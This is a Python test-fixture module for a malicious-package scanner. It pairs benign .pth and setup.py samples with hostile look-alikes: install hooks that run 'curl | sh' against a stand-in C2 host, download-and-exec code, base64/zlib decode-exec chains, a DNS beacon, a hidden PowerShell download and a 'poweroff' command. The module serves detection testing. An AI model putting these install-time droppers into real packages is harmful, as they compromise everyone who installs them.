"""Per-rule fixtures: for every rule, files it must match and look-alikes it must not.

Every fixture is harmless by construction (see THREATS.md): encoded payloads
decode to ``print("FIXTURE_OK")``, URLs are on ``*.example.invalid``, and the
files only ever exist in memory as :class:`FileView` bytes — nothing here is
written to disk, imported or run.
"""

from __future__ import annotations

import base64
import zlib

from depvet.files import FileRole, FileView
from tests.builders import HARMLESS_B64, HARMLESS_PAYLOAD, LITELLM_PTH_LINE
from tests.detectors.fixture_types import RuleFixtures
from tests.detectors.fixtures_behavior import FIXTURES_BEHAVIOR
from tests.detectors.fixtures_obfuscation import FIXTURES_OBFUSCATION
from tests.detectors.fixtures_package import FIXTURES_PACKAGE
from tests.detectors.fixtures_patterns import FIXTURES_PATTERNS

HARMLESS_HEX = HARMLESS_PAYLOAD.encode().hex()
HARMLESS_ZLIB_B64 = base64.b64encode(zlib.compress(HARMLESS_PAYLOAD.encode())).decode()
C2 = "https://c2.example.invalid/stage2"


def pth(text: str, path: str = "evil.pth") -> FileView:
    """A .pth file at the top of site-packages."""
    return FileView(path=path, role=FileRole.PTH, data=text.encode())


def setup_py(text: str, path: str = "pkg-1.0/setup.py") -> FileView:
    """A setup.py at the root of an sdist."""
    return FileView(path=path, role=FileRole.SETUP, data=text.encode())


def customize(path: str = "sitecustomize.py", text: str = "import os\n") -> FileView:
    """A sitecustomize/usercustomize module at the top of site-packages."""
    return FileView(path=path, role=FileRole.CUSTOMIZE, data=text.encode())


def python(text: str, path: str) -> FileView:
    """Any other Python module."""
    return FileView(path=path, role=FileRole.PYTHON, data=text.encode())


# --- .pth lines real tools write ---------------------------------------------------------------

DISTUTILS_PRECEDENCE = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') "
    "== 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)
EDITABLE_FINDER = "import __editable___mypkg_1_0_finder; __editable___mypkg_1_0_finder.install()\n"
NSPKG = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
    "sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and "
    "__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs "
    "and sys.modules.setdefault('zope', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or "
    "sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and "
    "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)
VIRTUALENV = "import _virtualenv\n"
COVERAGE = "import coverage; coverage.process_startup()\n"
PATHS = "/opt/lib\n../src\n"

# Real start-up lines that run a literal block through exec (coverage 7, coloredlogs).
COVERAGE_EXEC = (
    'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or '
    'os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  '
    'pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n'
)
COLOREDLOGS_EXEC = (
    'import os; exec(\'try: __import__("coloredlogs").auto_install() if '
    'os.environ.get("COLOREDLOGS_AUTO_INSTALL") else None\\nexcept ImportError: pass\')\n'
)

BENIGN_PTH: dict[str, FileView] = {
    "coverage-exec-literal": pth(COVERAGE_EXEC, "a1_coverage.pth"),
    "coloredlogs-exec-literal": pth(COLOREDLOGS_EXEC, "coloredlogs.pth"),
    "distutils-precedence": pth(DISTUTILS_PRECEDENCE, "distutils-precedence.pth"),
    "editable-finder": pth(EDITABLE_FINDER, "__editable__.mypkg-1.0.pth"),
    "nspkg": pth(NSPKG, "zope.interface-5.0-py3.9-nspkg.pth"),
    "virtualenv": pth(VIRTUALENV, "_virtualenv.pth"),
    "coverage": pth(COVERAGE, "coverage.pth"),
    "paths": pth(PATHS, "paths.pth"),
}

DANGEROUS_PTH: dict[str, FileView] = {
    "exec-literal-spawns": pth(
        'import os; exec(\'import subprocess\\nsubprocess.Popen(["sh", "-c", "id"])\')\n'
    ),
    "litellm-launcher": pth(LITELLM_PTH_LINE, "litellm_init.pth"),
    "os-system-curl": pth(f'import os; os.system("curl -s {C2} | sh")\n'),
    "decode-exec": pth(f"import base64; exec(base64.b64decode('{HARMLESS_B64}'))\n"),
    "aliased-exec": pth(
        f"import builtins as b, codecs; b.exec(codecs.decode('{HARMLESS_HEX}', 'hex'))\n"
    ),
    "urlopen": pth(f'import urllib.request as u; u.urlopen("{C2}")\n'),
    "computed-getattr": pth("import os; getattr(os, 'sys' + 'tem')('true')\n"),
    "writes-file": pth("import pathlib; pathlib.Path('/tmp/x.example').write_text('x')\n"),
    "second-line": pth(
        "/opt/lib\nimport sys; import subprocess; subprocess.call([sys.executable])\n"
    ),
    # Truncated mid-call: does not parse, the text check still sees it.
    "truncated": pth(
        "import subprocess; subprocess.Popen([sys.executable, '-c', 'exec(b64decode(\n"
    ),
}

# --- setup.py files --------------------------------------------------------------------------

SETUP_PLAIN = """\
from setuptools import setup

setup(
    name="plain",
    version="1.0",
    url="https://github.example.invalid/plain",  # cmdclass is not used here
    project_urls={"Source": "https://github.example.invalid/plain"},
)
"""

# The maintainer's release chores, run by hand as `python setup.py publish`; pip never does.
SETUP_RELEASE_CHORES = """\
import os
import socket
import sys

from setuptools import setup


def serve_report(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(("localhost", port))


command = sys.argv[-1]
if command == "publish":
    os.system("rm -rf dist && python3 setup.py sdist bdist_wheel")
    os.system("twine upload dist/*")
    sys.exit()
elif command in ("coverage", "htmlcov"):
    os.system("coverage run setup.py test")
    serve_report(8000)
    sys.exit()
if "tag" in sys.argv and len(sys.argv) > 2:
    os.system("git tag -a v1.0")

setup(name="chores", version="1.0")
"""
# The same chores guarded by commands pip gives: they run at install.
SETUP_INSTALL_GUARDED = """\
import os
import sys

from setuptools import setup

if "install" in sys.argv or sys.argv[1] == "bdist_wheel":
    os.system("git describe --tags > VERSION")
setup(name="guarded", version="1.0")
"""

SETUP_EMPTY_CMDCLASS = """\
from setuptools import setup
setup(name="x", cmdclass={})
"""

SETUP_BUILD_EXT_CMAKE = """\
import os
import subprocess
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


class CMakeBuild(build_ext):
    def run(self):
        for ext in self.extensions:
            self.build_cmake(ext)

    def build_cmake(self, ext):
        os.makedirs(self.build_temp, exist_ok=True)
        subprocess.check_call(["cmake", ext.sourcedir, "-DCMAKE_BUILD_TYPE=Release"],
                              cwd=self.build_temp)
        subprocess.check_call(["cmake", "--build", "."], cwd=self.build_temp)


setup(name="fast", ext_modules=[Extension("fast._core", [])], cmdclass={"build_ext": CMakeBuild})
"""

SETUP_PIP_SECOND_STAGE = """\
import subprocess
import sys
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.check_call([sys.executable, "-m", "pip", "install", "helper-payload"])


setup(name="pkg", version="1.0", cmdclass={"install": PostInstall})
"""

SETUP_PIP_IN_PROCESS = """\
import sys
from distutils.core import setup

if sys.argv[1] in ["egg_info", "build"]:
    from pip._internal import main
    main(["install", "helper-payload"])
setup(name="pkg", version="1.0")
"""

SETUP_DNS_BEACON = """\
import subprocess
from setuptools import setup

subprocess.getoutput("dig @1.1.1.1 install.beacon.example.invalid")
setup(name="pkg", version="1.0")
"""

SETUP_START_PROGRAM = """\
from subprocess import run
from setuptools import setup

run(["start", "helper.exe"], shell=True)
setup(name="pkg", version="1.0")
"""

# The same launch through the API: os.startfile from the install command.
SETUP_STARTFILE_PROGRAM = """\
import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.startfile(os.path.join(os.environ["APPDATA"], "helper.exe"))


setup(name="pkg", version="1.0", cmdclass={"install": PostInstall})
"""

# A maintainer's shortcut: `python setup.py docs` builds and opens the docs; pip never
# gives that command.
SETUP_OPEN_DOCS_BY_HAND = """\
import os
import sys
from setuptools import setup

if sys.argv[-1] == "docs":
    os.system("sphinx-build docs docs/_build")
    os.startfile(os.path.join("docs", "_build", "index.html"))
    sys.exit()

setup(name="pkg", version="1.0")
"""

SETUP_NUMPY_INCLUDE = """\
import subprocess
import sys
from setuptools import Extension, setup

include = subprocess.check_output(
    [sys.executable, "-c", "import numpy; print(numpy.get_include())"], text=True
).strip()
subprocess.call(["echo", "to develop, run pip install -e . instead"])
setup(name="pkg", version="1.0", ext_modules=[Extension("pkg._c", ["c.c"], include_dirs=[include])])
"""

SETUP_GIT_DESCRIBE = """\
import subprocess
from setuptools import setup


def git_version():
    try:
        out = subprocess.check_output(["git", "describe", "--tags"])
        return out.decode().strip().lstrip("v")
    except Exception:
        return "0.0.0"


setup(name="gitver", version=git_version())
"""

SETUP_UNCALLED_REQUESTS = """\
from setuptools import setup


def fetch_changelog():
    import requests
    return requests.get("https://changelog.example.invalid/latest").text


def run_tool():
    import subprocess
    subprocess.check_call(["curl", "https://tool.example.invalid/x"])


setup(name="lazy", version="1.0")
"""

# A setup.py that refuses `setup.py install` unless run through `pip install .`.
SETUP_PIP_INSTALL_HERE = """\
import os
import sys
from setuptools import setup

if sys.argv[1:2] == ["install"] and os.environ.get("READTHEDOCS") == "True":
    os.system("pip install .")
    sys.exit(0)

setup(name="pkg", version="1.0")
"""
# The version read from a syntax tree: compile() with PyCF_ONLY_AST runs nothing.
SETUP_VERSION_AST = """\
import ast
import os
from setuptools import setup


def version():
    path = os.path.join(os.path.dirname(__file__), "pkg", "__init__.py")
    with open(path) as file:
        tree = compile(file.read(), path, "exec", ast.PyCF_ONLY_AST)
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and node.targets[0].id == "__version__":
            return node.value.value
    return "0"


setup(name="pkg", version=version())
"""
SETUP_VERSION_EXEC = """\
import codecs
import os
from setuptools import setup

here = os.path.abspath(os.path.dirname(__file__))
about = {}
exec(open("pkg/version.py").read())
with open(os.path.join(here, "pkg", "__about__.py")) as f:
    exec(f.read(), about)


def read(*parts):
    with codecs.open(os.path.join(here, *parts), "r") as fp:
        return fp.read()


exec(read("pkg", "_version.py"), about)
exec(compile(open("pkg/meta.py").read(), "pkg/meta.py", "exec"), about)
for line in open("pkg/__init__.py"):
    if line.startswith("__version__"):
        version = eval(line.split("=")[1])
exec("VERSION = '1.0'")
setup(name="verexec", version=about["__version__"])

if os.path.isdir("build"):  # f rebound after the with: not what exec read
    for root, dirs, files in os.walk("build"):
        for f in files:
            os.remove(os.path.join(root, f))
"""

SETUP_DECODE_EXEC_UNCALLED = f"""\
import base64
from setuptools import setup


def never_called():
    exec(base64.b64decode("{HARMLESS_B64}"))


setup(name="quiet", version="1.0")
"""

SETUP_POSTINSTALL_CURL = f"""\
import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -fsSL {C2}.sh | sh")


setup(name="evil", version="1.0", cmdclass={{"install": PostInstall}})
"""

SETUP_SUBCLASS_ONLY = """\
from setuptools import setup
from setuptools.command.develop import develop as _develop


class Develop(_develop):
    def run(self):
        _develop.run(self)


setup(name="dev", version="1.0")
"""

SETUP_VERSIONEER = """\
import versioneer
from setuptools import setup
setup(name="v", version=versioneer.get_version(), cmdclass=versioneer.get_cmdclass())
"""

SETUP_MODULE_URLOPEN = f"""\
import urllib.request
from setuptools import setup

payload = urllib.request.urlopen("{C2}").read()
setup(name="beacon", version="1.0")
"""

SETUP_REQUESTS_IN_HOOK = f"""\
from setuptools import setup
from setuptools.command.egg_info import egg_info
import requests as r


class EggInfo(egg_info):
    def run(self):
        self.beacon()
        egg_info.run(self)

    def beacon(self):
        r.post("{C2}", data={{"host": "x"}})


setup(name="beacon2", version="1.0", cmdclass=dict(egg_info=EggInfo))
"""

SETUP_CALLED_HELPER_NETWORK = """\
import socket
from setuptools import setup


def _phone_home():
    s = socket.create_connection(("c2.example.invalid", 443))
    s.close()


def _prepare():
    _phone_home()


_prepare()
setup(name="beacon3", version="1.0")
"""

SETUP_WGET_VARIABLE = f"""\
import subprocess
from setuptools import setup

cmd = ["wget", "-q", "-O", "/tmp/x.example", "{C2}"]
subprocess.Popen(cmd)
setup(name="dropper", version="1.0")
"""

# Which download clients are installed, asked at install time: no download.
SETUP_CURL_PROBE = """\
import subprocess
from setuptools import setup

HAS_CURL = subprocess.call(["curl", "--version"]) == 0
HAS_WGET = subprocess.call("/usr/bin/wget -V", shell=True) == 0
setup(name="probe", version="1.0")
"""

SETUP_POWERSHELL = """\
import subprocess as sp
from setuptools import setup
if True:
    try:
        sp.run("powershell -NoP -W Hidden -C Invoke-WebRequest -Uri x -OutFile y", shell=True)
    except Exception:
        pass
setup(name="win", version="1.0")
"""

SETUP_DECODE_EXEC = f"""\
import base64
from setuptools import setup

exec(base64.b64decode("{HARMLESS_B64}"))
setup(name="blob", version="1.0")
"""

SETUP_DECODE_EXEC_VIA_NAME = f"""\
import zlib as z
from base64 import b64decode as d
from setuptools import setup

blob = d("{HARMLESS_ZLIB_B64}")
code = z.decompress(blob).decode()
eval(compile(code, "<x>", "exec"))
setup(name="blob2", version="1.0")
"""

SETUP_EXEC_DOWNLOAD = f"""\
from urllib.request import urlopen
from setuptools import setup

exec(urlopen("{C2}").read())
setup(name="stage", version="1.0")
"""

SETUP_EXEC_CHR = """\
from setuptools import setup
exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))
setup(name="chrs", version="1.0")
"""

SETUP_PY2_DOWNLOAD = f"""\
import os, urllib2
from setuptools import setup
print "installing"
data = urllib2.urlopen("{C2}").read()
exec data
os.system("curl {C2} | sh")
setup(name="old", version="1.0")
"""

SETUP_PY2_DECODE_EXEC = f"""\
import base64
print "hello"
exec base64.b64decode("{HARMLESS_B64}")
"""

SETUP_PY2_BENIGN = """\
from distutils.core import setup
print "building"
setup(name="old-benign", version="1.0")
"""

SETUP_GIT_CLONE = """\
import subprocess
from setuptools import setup
subprocess.check_call(["git", "submodule", "update", "--init"])
setup(name="subm", version="1.0")
"""


FIXTURES: dict[str, RuleFixtures] = {
    "pth-executable-line": RuleFixtures(
        positive=[
            DANGEROUS_PTH["litellm-launcher"],
            BENIGN_PTH["virtualenv"],
            BENIGN_PTH["distutils-precedence"],
            pth("import\tsite_hook\n", "tab.pth"),
        ],
        benign=[
            BENIGN_PTH["paths"],
            pth(" import os\n", "indented.pth"),  # site.py treats it as a path
            pth("# import os; os.system('x')\n", "comment.pth"),
            pth("importlib_stuff\n", "prefix.pth"),
            python("import os\n", "pkg/hooks.py"),
        ],
    ),
    "pth-dangerous-code": RuleFixtures(
        positive=list(DANGEROUS_PTH.values()),
        benign=list(BENIGN_PTH.values()),
    ),
    "sitecustomize-shipped": RuleFixtures(
        positive=[customize(), customize("usercustomize.py"), customize("src/sitecustomize.py")],
        benign=[
            python("import os\n", "pkg/sitecustomize.py"),
            python("import os\n", "tests/usercustomize.py"),
        ],
    ),
    "setup-cmdclass-override": RuleFixtures(
        positive=[
            setup_py(SETUP_POSTINSTALL_CURL),
            setup_py(SETUP_BUILD_EXT_CMAKE),
            setup_py(SETUP_SUBCLASS_ONLY),
            setup_py(SETUP_VERSIONEER),
        ],
        benign=[
            setup_py(SETUP_PLAIN),
            setup_py(SETUP_EMPTY_CMDCLASS),
            python(SETUP_POSTINSTALL_CURL, "pkg/setup_helpers.py"),
        ],
    ),
    "setup-install-network": RuleFixtures(
        positive=[
            setup_py(SETUP_MODULE_URLOPEN),
            setup_py(SETUP_REQUESTS_IN_HOOK),
            setup_py(SETUP_CALLED_HELPER_NETWORK),
            setup_py(SETUP_EXEC_DOWNLOAD),
            setup_py(SETUP_PY2_DOWNLOAD),
        ],
        benign=[
            setup_py(SETUP_UNCALLED_REQUESTS),
            setup_py(SETUP_PLAIN),
            setup_py(SETUP_BUILD_EXT_CMAKE),
            setup_py(SETUP_RELEASE_CHORES),
            python(SETUP_MODULE_URLOPEN, "pkg/fetch.py"),
        ],
    ),
    "setup-install-process": RuleFixtures(
        positive=[
            setup_py(SETUP_GIT_DESCRIBE),
            setup_py(SETUP_BUILD_EXT_CMAKE),
            setup_py(SETUP_POSTINSTALL_CURL),
            setup_py(SETUP_INSTALL_GUARDED),
        ],
        benign=[
            setup_py(SETUP_UNCALLED_REQUESTS),
            setup_py(SETUP_PLAIN),
            setup_py(SETUP_VERSION_EXEC),
            setup_py(SETUP_RELEASE_CHORES),
        ],
    ),
    "setup-install-shell-download": RuleFixtures(
        positive=[
            setup_py("import os\nos.system('poweroff')\n", "wreck-1.0/setup.py"),
            setup_py(SETUP_POSTINSTALL_CURL),
            setup_py(SETUP_WGET_VARIABLE),
            setup_py(SETUP_POWERSHELL),
            setup_py(SETUP_PY2_DOWNLOAD),
        ],
        benign=[
            setup_py(SETUP_BUILD_EXT_CMAKE),
            setup_py(SETUP_GIT_DESCRIBE),
            setup_py(SETUP_GIT_CLONE),
            setup_py(SETUP_CURL_PROBE),
            setup_py(SETUP_UNCALLED_REQUESTS),
        ],
    ),
    "setup-install-side-command": RuleFixtures(
        positive=[
            setup_py(SETUP_PIP_SECOND_STAGE),
            setup_py(SETUP_DNS_BEACON),
            setup_py(SETUP_START_PROGRAM),
            setup_py(SETUP_STARTFILE_PROGRAM),
            setup_py(SETUP_PIP_IN_PROCESS),
        ],
        benign=[
            setup_py(SETUP_NUMPY_INCLUDE),
            setup_py(SETUP_BUILD_EXT_CMAKE),
            setup_py(SETUP_GIT_DESCRIBE),
            setup_py(SETUP_PIP_INSTALL_HERE),
            setup_py(SETUP_OPEN_DOCS_BY_HAND),
        ],
    ),
    "setup-install-decode-exec": RuleFixtures(
        positive=[
            setup_py(SETUP_DECODE_EXEC),
            setup_py(SETUP_DECODE_EXEC_VIA_NAME),
            setup_py(SETUP_EXEC_DOWNLOAD),
            setup_py(SETUP_EXEC_CHR),
            setup_py(SETUP_PY2_DECODE_EXEC),
        ],
        benign=[
            setup_py(SETUP_VERSION_EXEC),
            setup_py(SETUP_VERSION_AST),
            setup_py(SETUP_DECODE_EXEC_UNCALLED),
            setup_py(SETUP_PY2_BENIGN),
            python(SETUP_DECODE_EXEC, "pkg/module.py"),
        ],
    ),
}

# Each area keeps its fixtures in its own module; every rule id appears once.
for _area in (FIXTURES_PATTERNS, FIXTURES_BEHAVIOR, FIXTURES_OBFUSCATION, FIXTURES_PACKAGE):
    assert not set(_area) & set(FIXTURES), "a rule's fixtures are defined twice"
    FIXTURES.update(_area)
